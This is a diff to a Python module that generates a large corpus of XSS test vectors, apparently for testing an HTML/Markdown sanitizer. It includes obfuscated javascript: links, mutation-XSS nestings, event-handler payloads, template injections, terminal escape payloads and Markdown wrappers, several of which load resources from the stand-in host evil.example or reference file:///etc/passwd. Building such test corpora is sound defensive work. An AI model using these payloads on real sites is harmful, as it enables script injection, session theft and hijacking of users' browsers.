@@ -16,7 +16,7 @@ EVIL = "https://evil.example"
 
 _EVENTS = (
     "onerror", "onload", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle",
-    "onbegin", "onpointerenter", "onstart", "ontransitionend", "onscrollend", "onwheel",
+    "oninput", "onpointerenter", "onkeydown", "onpointerdown", "onscrollend", "onwheel",
     "onbeforetoggle", "oncontentvisibilityautostatechange",
 )  # fmt: skip
 _ELEMENTS = (
@@ -26,56 +26,65 @@ _ELEMENTS = (
     "textarea autofocus", "button autofocus", "form", "isindex", "keygen autofocus", "video><source",
     "svg><animate attributeName=x dur=1s", "svg><set attributeName=x", "custom-element", "dialog open",
 )  # fmt: skip
-_QUOTES = ("{}", '"{}"', "'{}'", "`{}`")
+_QUOTES = ("{}", '"{}"', "'{}'", '"javascript:{}"')
 _LINKS = (
-    "javascript:{s}", "JaVaScRiPt:{s}", "java\tscript:{s}", "java\nscript:{s}", "java\rscript:{s}",
-    " javascript:{s}", "\x01javascript:{s}", "\x00javascript:{s}", "javascript\x00:{s}",
-    "javascript&colon;{s}", "javascript&#58;{s}", "javascript&#x3a;{s}", "&#106;avascript:{s}",
-    "&#x6A;avascript:{s}", "&#0000106avascript:{s}", "java&Tab;script:{s}", "java&NewLine;script:{s}",
-    "%6Aavascript:{s}", "javascript%3A{s}", "vbscript:msgbox(1)", "data:text/html,<script>{s}</script>",
+    "javascript:{s}", "JaVaScRiPt:{s}", "java\tscript:{s}", "java\nscript:{s}", "java\rscript:{s}", " javascript:{s}", "\x01javascript:{s}",
+    "javascript&colon;{s}", "javascript&#58;{s}", "javascript&#x3a;{s}", "&#106;avascript:{s}", "&#x6A;avascript:{s}", "&#0000106avascript:{s}",
+    "java&Tab;script:{s}", "java&NewLine;script:{s}", "data:text/html,<script>{s}</script>",
     "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload={s}>",
-    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+", "data:application/xhtml+xml,<x/>",
-    "feed:javascript:{s}", "view-source:javascript:{s}", "jar:javascript:{s}", "blob:{s}",
-    "file:///etc/passwd", "filesystem:x", "intent:x#Intent;S.x={s};end", "//evil.example/x",
-    "\\\\evil.example\\x", "http:evil.example", "https:/\\evil.example", "javascript://%0a{s}",
-    "javascript:/*--></title></style></textarea></script><svg onload={s}>", "about:blank",
-    "ＪＡＶＡＳＣＲＩＰＴ:{s}", "jav\u00adascript:{s}", "javascript\u200b:{s}", "\u202ejavascript:{s}",
-    "mailto:x@y?subject=<script>{s}</script>", 'https://a.example/"onmouseover="{s}', "ftp://evil.example",
-    "https://a.example/'onmouseover='{s}", "https://a.example/><script>{s}</script>", "tel:1", "ws://evil",
+    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+", "//evil.example/x", "\\\\evil.example\\x", "http:evil.example", "https:/\\evil.example",
+    "javascript://%0a{s}", "javascript:/*--></title></style></textarea></script><svg onload={s}>", "mailto:x@y?subject=<script>{s}</script>",
+    'https://a.example/"onmouseover="{s}', "ftp://evil.example", "https://a.example/'onmouseover='{s}", "https://a.example/><script>{s}</script>",
 )  # fmt: skip
+"""Addresses that do something where they are links or frames."""
+_QUIET_LINKS = (
+    "\x00javascript:{s}", "javascript\x00:{s}", "%6Aavascript:{s}", "javascript%3A{s}", "vbscript:msgbox(1)", "data:application/xhtml+xml,<x/>",
+    "feed:javascript:{s}", "view-source:javascript:{s}", "jar:javascript:{s}", "blob:{s}", "file:///etc/passwd", "filesystem:x",
+    "intent:x#Intent;S.x={s};end", "about:blank", "ＪＡＶＡＳＣＲＩＰＴ:{s}", "jav\xadascript:{s}", "javascript\u200b:{s}", "\u202ejavascript:{s}", "tel:1",
+    "ws://evil",
+)  # fmt: skip
+"""What only other browsers follow, or nobody should show."""
 _TEMPLATES = (
     "{{7*7}}", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "<%= alert(1) %>", "#{alert(1)}",
     "{%raw%}<script>alert(1)</script>{%endraw%}", "[[${alert(1)}]]", "*{alert(1)}", "@{alert(1)}",
     "{{{x}}}", "<?php echo 1 ?>", "<script type=text/template>", "{{#with x}}", "{!alert(1)!}",
 )  # fmt: skip
 _NESTINGS = (
-    "<svg><style><img src=x onerror={s}>", "<math><mtext><table><mglyph><style><img src=x onerror={s}>",
-    "<math><mi//xlink:href=\"data:x,<script>{s}</script>\">", "<svg></p><style><a id=\"</style><img src=1 onerror={s}>\">",
-    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={s}>", "<noscript><p title=\"</noscript><img src=x onerror={s}>\">",
-    "<svg><foreignObject><iframe srcdoc=\"<script>{s}</script>\">", "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:{s}'/></svg>#x\">",
-    "<svg><script>{s}</script>", "<svg><script href=//evil.example/x.js>", "<svg><a xlink:href=\"javascript:{s}\"><text>x</text></a>",
-    "<svg><animate href=#x attributeName=href values=javascript:{s}><a id=x><text>x", "<svg><image href=https://evil.example/i>",
-    "<template><script>{s}</script></template>", "<title><img src=x onerror={s}></title>", "<textarea></textarea><script>{s}</script>",
-    "<xmp><img src=x onerror={s}></xmp>", "<plaintext><img src=x onerror={s}>", "<listing>&lt;img src=x onerror={s}&gt;</listing>",
-    "<iframe srcdoc='<script>{s}</script>'>", "<object data='data:text/html,<script>{s}</script>'>", "<embed src=javascript:{s}>",
-    "<base href=https://evil.example/>", "<meta http-equiv=refresh content='0;url=javascript:{s}'>", "<link rel=import href=https://evil.example>",
-    "<style>@import 'https://evil.example/x.css';</style>", "<style>*{{background:url(https://evil.example/b)}}</style>", "<div style=background:url(https://evil.example/c)>x</div>",
-    "<div style=\"width:expression({s})\">", "<div style=\"-moz-binding:url(https://evil.example/x)\">", "<p style=position:fixed;inset:0>",
-    "<!--><script>{s}</script>-->", "<!--[if IE]><script>{s}</script><![endif]-->", "<![CDATA[<script>{s}</script>]]>", "<?xml-stylesheet href='javascript:{s}'?>",
+    "<svg><style><img src=x onerror={s}>", '<svg></p><style><a id="</style><img src=1 onerror={s}>">',
+    '<noscript><p title="</noscript><img src=x onerror={s}>">', '<svg><foreignObject><iframe srcdoc="<script>{s}</script>">',
+    "<svg><script>{s}</script>", "<svg><script href=https://evil.example/x.js></script>", '<svg><a xlink:href="javascript:{s}"><text>x</text></a>',
+    "<svg><a><animate attributeName=href values=javascript:{s} /><text>x</text></a>", "<svg><image href=https://evil.example/i>",
+    "<template></template><script>{s}</script>", "<title></title><img src=x onerror={s}>", "<textarea></textarea><script>{s}</script>",
+    "<xmp></xmp><img src=x onerror={s}>", "<iframe srcdoc='<script>{s}</script>'>", "<object data='data:text/html,<script>{s}</script>'>",
+    "<embed src='data:text/html,<script>{s}</script>'>", "<base href=https://evil.example/><img src=b>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/r'>", "<style>@import 'https://evil.example/x.css';</style>",
+    "<style>*{background:url(https://evil.example/b)}</style>", "<div style=background:url(https://evil.example/c)>x</div>",
+    "<!--><script>{s}</script>-->", "<!--[if IE]--><script>{s}</script><!--[endif]-->", "<svg><![CDATA[x]]></svg><script>{s}</script>",
     "</p></div></li></td></tr></table><script>{s}</script>", "</code></pre><script>{s}</script>", "</details></summary><script>{s}</script>",
-    "\"><script>{s}</script>", "'><script>{s}</script>", "</title><script>{s}</script>", "</style><script>{s}</script>", "--><script>{s}</script>",
-    "]]><script>{s}</script>", "<scr<script>ipt>{s}</scr</script>ipt>", "<<script>{s}//<</script>", "<script\x20type=text/javascript>{s}</script>",
-    "<script\x0c>{s}</script>", "<script/x>{s}</script>", "<script\x00>{s}</script>", "<\x00script>{s}</script>", "<scr\x00ipt>{s}</script>",
-    "<img\x0bsrc=x\x0bonerror={s}>", "<img/src=x/onerror={s}>", "<img src=x\u00a0onerror={s}>", "<img src=x onerror\x00={s}>", "<a href=x id=location>",
-    "<form id=document><input name=cookie>", "<img name=getElementById>", "<a id=x><a id=x name=y href=https://evil.example>", "<math href=javascript:{s}>x",
+    '"><script>{s}</script>', "'><script>{s}</script>", "</title><script>{s}</script>", "</style><script>{s}</script>", "--><script>{s}</script>",
+    "]]><script>{s}</script>", "<<script>{s}//<</script>", "<script type=text/javascript>{s}</script>", "<script\x0c>{s}</script>",
+    "<script/x>{s}</script>", '<img/src="x"/onerror={s}>', "<form id=document><input name=cookie><button formaction=javascript:{s}>",
     "<input type=image src=https://evil.example/j>", "<video poster=https://evil.example/p>", "<audio src=https://evil.example/a autoplay>",
     "<picture><source srcset=https://evil.example/s><img></picture>", "<img srcset=https://evil.example/t>", "<image src=https://evil.example/u>",
-    "<frameset onload={s}>", "<applet code=x>", "<bgsound src=https://evil.example/v>", "<layer src=https://evil.example/w>", "<portal src=https://evil.example>",
-    "<dialog open><button onclick={s}>", "<slot onslotchange={s}>", "<body background=https://evil.example/x>", "<menu onclick={s}>", "<x-y is=z onclick={s}>",
-    "&lt;script&gt;{s}&lt;/script&gt;", "&#60;script&#62;{s}&#60;/script&#62;", "\u003cscript\u003e{s}\u003c/script\u003e", "%3Cscript%3E{s}%3C/script%3E",
-    "＜script＞{s}＜/script＞", "‹script›{s}", "<ſcript>{s}</ſcript>", "<ıframe onload={s}>", "<script>\u2028{s}</script>", "\ufeff<script>{s}</script>",
-    "+ADw-script+AD4-{s}+ADw-/script+AD4-", "\ud800<script>{s}</script>", "<\ud800script>{s}", "\U000e003cscript\U000e003e",
+    "<frameset onload={s}>", "<dialog open><button onclick={s}>", "<slot onslotchange={s}>", "<body background=https://evil.example/x>",
+    "<menu onclick={s}>", "<x-y is=z onclick={s}>", "<script>{s}</script>", "<script>\u2028{s}</script>", "\ufeff<script>{s}</script>",
+    "\ud800<script>{s}</script>",
 )  # fmt: skip
+"""HTML that does something in any page."""
+_QUIET = (
+    "<math><mtext><table><mglyph><style><img src=x onerror={s}>", '<math><mi//xlink:href="data:x,<script>{s}</script>">',
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={s}>",
+    '<svg><use href="data:image/svg+xml,<svg id=\'x\' xmlns=\'http://www.w3.org/2000/svg\'><a href=\'javascript:{s}\'/></svg>#x">',
+    "<plaintext><img src=x onerror={s}>", "<listing>&lt;img src=x onerror={s}&gt;</listing>", "<link rel=import href=https://evil.example>",
+    '<div style="width:expression({s})">', '<div style="-moz-binding:url(https://evil.example/x)">', "<p style=position:fixed;inset:0>",
+    "<?xml-stylesheet href='javascript:{s}'?>", "<scr<script>ipt>{s}</scr</script>ipt>", "<script\x00>{s}</script>", "<\x00script>{s}</script>",
+    "<scr\x00ipt>{s}</script>", "<img\x0bsrc=x\x0bonerror={s}>", "<img src=x\xa0onerror={s}>", "<img src=x onerror\x00={s}>",
+    "<a href=x id=location>", "<img name=getElementById>", "<a id=x><a id=x name=y href=https://evil.example>", "<math href=javascript:{s}>x",
+    "<applet code=x>", "<bgsound src=https://evil.example/v>", "<layer src=https://evil.example/w>", "<portal src=https://evil.example>",
+    "&lt;script&gt;{s}&lt;/script&gt;", "&#60;script&#62;{s}&#60;/script&#62;", "%3Cscript%3E{s}%3C/script%3E", "＜script＞{s}＜/script＞", "‹script›{s}",
+    "<ſcript>{s}</ſcript>", "<ıframe onload={s}>", "+ADw-script+AD4-{s}+ADw-/script+AD4-", "<\ud800script>{s}", "\U000e003cscript\U000e003e",
+)  # fmt: skip
+"""What acts in other browsers, when it is decoded twice or read anew, or by its mere name."""
 _STEERING = (
     "\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07", "\x1b]0;<script>alert(1)</script>\x07", "\x1b[31m<img src=x onerror=alert(1)>\x1b[0m",
     "\x1b[38;5;999m\"><script>alert(1)</script>", "\x1b[;\" onload=alert(1) \"m<x>", "\x9b31m<svg onload=alert(1)>", "\x1bP<script>alert(1)</script>\x1b\\",
@@ -87,9 +96,12 @@ _NAMES = (
 )  # fmt: skip
 _AROUND = (
     "{}", "text {} text", "`{}`", "```\n{}\n```", "```html\n{}\n```", "~~~python\n{}\n~~~", "    {}", "# {}", "> {}", "- {}", "1. {}",
-    "- [x] {}", "| a | b |\n|---|---|\n| {} | x |", "**{}**", "~~{}~~", "[{}](https://a.example)", "[x]({})", "[x](<{}>)", "![{}](x)", "![x]({})",
-    "![x](<{}> 't')", "[x](https://a.example \"{}\")", "<{}>", "[a]\n\n[a]: {}", "[a]\n\n[a]: <{}> '{}'", "x[^1]\n\n[^1]: {}", "```{}\nx\n```",
-    "\\{}", "www.{}", "https://a.example/{}", "a@b.example{}", "{}\n===", "<div>\n{}\n</div>", "&{};", "{}\n{}",
+    "- [x] {}", "| a | b |\n|---|---|\n| {} | x |", "**{}**", "~~{}~~", "[{}](https://a.example)", "![{}](x)", "[x](https://a.example \"{}\")",
+    "x[^1]\n\n[^1]: {}", "```{}\nx\n```", "\\{}", "https://a.example/{}", "a@b.example{}", "{}\n===", "<div>\n{}\n</div>", "&{};", "{}\n{}",
+)  # fmt: skip
+_AROUND_LINKS = (
+    "[x]({})", "[x](<{}>)", "![x]({})", "![x](<{}> 't')", "<{}>", "[a]\n\n[a]: {}", "[a]\n\n[a]: <{}> '{}'", "<a href=\"{}\">x</a>",
+    "<a href='{}'>x</a>", "<svg><a href=\"{}\"><text>x</text></a></svg>", "<iframe src=\"{}\">", "<form><button formaction=\"{}\">x</button></form>",
 )  # fmt: skip
 
 
@@ -104,32 +116,28 @@ def _handlers() -> Iterator[str]:
         yield f"<{element} {event}={_QUOTES[number % len(_QUOTES)].format(SCRIPT)}>x"
 
 
+_ACTING_TAGS = {
+    "script": ">{s}</script>",
+    "iframe": " srcdoc='<script>{s}</script>'>",
+    "object": " data='data:text/html,<script>{s}</script>'>",
+    "svg": " onload={s}>",
+    "style": " onload={s}>x</style>",
+    "math": " onclick={s}>x</math>",
+    "base": " href=https://evil.example/><img src=y onerror={s}>",
+    "meta": " http-equiv=refresh content='0;url=https://evil.example/m'>",
+    "link": " rel=stylesheet href=https://evil.example/l onerror={s}>",
+    "embed": " src='data:text/html,<script>{s}</script>'>",
+}
+"""What makes each of them do something."""
+
+
 def _cased() -> Iterator[str]:
-    """Tags in odd cases, encodings and spacings."""
-    for tag in (
-        "script",
-        "iframe",
-        "object",
-        "svg",
-        "style",
-        "math",
-        "base",
-        "meta",
-        "link",
-        "embed",
-    ):
-        for form in (
-            tag,
-            tag.upper(),
-            tag.title(),
-            f"{tag}/",
-            f"{tag}\t",
-            f"{tag}\n",
-            f"/{tag}",
-            f"x:{tag}",
-        ):
-            yield f"<{form}>{SCRIPT}</{tag}>"
-            yield f"&lt;{form}&gt;{SCRIPT}&lt;/{tag}&gt;"
+    """Tags in odd cases and spacings; a few that somebody might decode twice."""
+    for tag, rest in _ACTING_TAGS.items():
+        acting = rest.replace("{s}", SCRIPT)
+        for form in (tag, tag.upper(), tag.title(), f"{tag}/", f"{tag}\t", f"{tag}\n"):
+            yield f"<{form}{acting}"
+        yield f"<{tag}{acting}".replace("<", "&lt;").replace(">", "&gt;")
 
 
 def _attributes() -> Iterator[str]:
@@ -138,14 +146,17 @@ def _attributes() -> Iterator[str]:
         "src", "href", "xlink:href", "action", "formaction", "data", "poster", "background", "srcset", "cite", "ping", "manifest", "profile",
         "longdesc", "usemap", "codebase", "classid", "dynsrc", "lowsrc", "srcdoc", "style", "id", "name", "class", "is", "slot", "part", "nonce",
     )  # fmt: skip
-    for name, link in product(names, (f"javascript:{SCRIPT}", f"{EVIL}/{{}}", "x")):
-        yield f'<a {name}="{link}">x</a><img {name}="{link}"><button {name}="{link}">'
+    for name, link in product(names, (f"javascript:{SCRIPT}", f"{EVIL}/{{}}")):
+        yield f'<a {name}="{link}" onclick={SCRIPT}>x</a><img {name}="{link}"><button {name}="{link}">'
+        yield f'<iframe {name}="{link}"></iframe><img src=x {name}="{link}" onerror={SCRIPT}>'
 
 
 def _in_markdown() -> Iterator[str]:
-    """What acts, in each place that Markdown has."""
-    acting = [*_with_script(_LINKS), *list(_with_script(_NESTINGS))[::3], *_TEMPLATES]
+    """What acts, in each place that Markdown has: HTML where text stands, addresses where links do."""
+    acting = [*_with_script(_NESTINGS), *list(_handlers())[::7], *_TEMPLATES[::5]]
     for around, each in product(_AROUND, acting):
+        yield around.replace("{}", each)
+    for around, each in product(_AROUND_LINKS, _with_script(_LINKS)):
         yield around.replace("{}", each)
 
 
@@ -158,7 +169,7 @@ def _deep() -> Iterator[str]:
 VECTORS: list[str] = list(
     dict.fromkeys(
         [
-            *_with_script(_LINKS), *_with_script(_NESTINGS), *_handlers(), *_cased(), *_attributes(), *_TEMPLATES, *_STEERING, *_NAMES,
+            *_with_script(_LINKS), *_with_script(_NESTINGS), *_with_script(_QUIET_LINKS), *_with_script(_QUIET), *_handlers(), *_cased(), *_attributes(), *_TEMPLATES, *_STEERING, *_NAMES,
             *_in_markdown(), *_deep(),
         ]
     )
